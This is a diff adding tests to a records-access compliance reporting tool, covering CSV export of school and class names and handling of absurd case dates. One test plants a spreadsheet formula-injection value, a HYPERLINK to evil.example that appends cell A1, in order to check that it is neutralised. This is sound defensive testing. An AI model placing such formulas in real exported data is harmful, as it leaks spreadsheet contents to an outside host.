@@ -355,3 +355,49 @@ def test_the_chart_draws_a_bar_per_case_and_a_dot_per_case_when_there_are_many()
     assert dots.count("<circle") == MAX_BARS + 1 and "01.01.26" in dots
     assert "Ingen saker" in working_days_per_case([], target=3, limit=5)
     assert "&lt;script&gt;" in horizontal_bars([("<script>", 1)])  # every label is escaped
+
+
+def test_a_name_that_begins_like_a_formula_is_written_as_text_in_the_csv(tmp_path):
+    """Class and school names come from the school system: a spreadsheet must not run them."""
+    from innsyn.compliance_report import figures_csv
+
+    con = innsyn_db.connect(tmp_path / "innsyn.duckdb")
+    innsyn_db.init_schema(con)
+    register = Register(con)
+    register.school("@S9", '=HYPERLINK("http://evil.example/?x="&A1,"Klikk")')
+    class_id = register.klass("+5B", school_id="@S9")
+    register.pupil("Ola", "Nordmann", class_id=class_id)
+    register.klass("-6A", school_id="@S9")
+    register.pupil("Kari", "Nordmann", class_id="@S9--6A")
+    con.close()
+    figures = read_figures(tmp_path / "innsyn.duckdb", *PERIOD, as_of=AS_OF, target_days=TARGET)
+
+    rows = list(csv.reader(io.StringIO(figures_csv(figures).decode("utf-8"), newline="")))
+
+    assert rows[0] == ["section", "key", "measure", "value"]
+    cells = {(section, key, measure): value for section, key, measure, value in rows[1:]}
+    assert cells[("coverage_school", "'@S9", "school_name")] == "'" + '=HYPERLINK("http://evil.example/?x="&A1,"Klikk")'
+    assert cells[("coverage_class", "'@S9-+5B", "class_name")] == "'+5B"
+    assert cells[("coverage_class", "'@S9--6A", "class_name")] == "'-6A"
+    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+def test_a_case_registered_with_an_absurd_day_of_receipt_fails_no_report(workdir, tmp_path, prefect_api_url):
+    """Year 1 and year 9999 are refused at the door today; a row an older version let in is
+    listed as open with no deadlines, and the report is written for everything else."""
+    (tmp_path / "innsyn.duckdb").write_bytes((workdir / "innsyn.duckdb").read_bytes())
+    with innsyn_db.open_db(tmp_path / "innsyn.duckdb") as con:
+        insert_case(con, "OLD-1", "0001-06-01T12:00:00+01:00")
+        insert_case(con, "OLD-2", "0001-01-01T00:00:00+02:00")  # 1 BC in Oslo time
+        insert_case(con, "OLD-3", "9999-12-31T12:00:00+00:00")
+
+    result = innsyn(tmp_path, prefect_api_url, "report", "compliance", "--from", "2026-11-02", "--to", "2026-11-15")
+
+    assert result.returncode == 0, result.stderr
+    printed = json.loads(result.stdout)
+    assert (printed["cases_received"], printed["cases_decided"], printed["open_cases"]) == (7, 5, 3)
+    figures = csv_figures(tmp_path / printed["report_csv"])
+    assert figures[("case", "OLD-1", "deadline_state")] == "unknown"
+    assert figures[("case", "OLD-1", "working_days_used")] == figures[("case", "OLD-1", "target_date")] == ""
+    assert figures[("decision_time", "all", "open_past_target")] == "3"  # the 2 late ones, and OLD-1
+    assert "ugyldigmottaksdato" in squeeze(pdf_text(tmp_path / printed["report_pdf"]))
